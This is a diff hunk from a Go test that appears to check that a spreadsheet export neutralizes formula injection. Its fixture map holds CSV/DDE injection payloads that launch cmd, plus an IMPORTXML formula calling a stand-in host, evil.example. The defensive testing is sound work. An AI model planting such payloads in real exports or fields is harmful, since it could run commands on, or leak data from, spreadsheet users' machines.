@@ -203,7 +203,7 @@ func TestExportFormulaNeutralized(t *testing.T) {
 		"title":           "@SUM(1+1)*cmd|' /C calc'!A0",
 		"clientFirstName": "+cmd|' /C notepad'!A1",
 		"clientLastName":  "-2+3+cmd|' /C calc'!A0",
-		"source":          "=1+1",
+		"source":          "\t=1+1",
 		"notes":           "=IMPORTXML(\"http://evil.example\")",
 		"description":     "@evil",
 	}
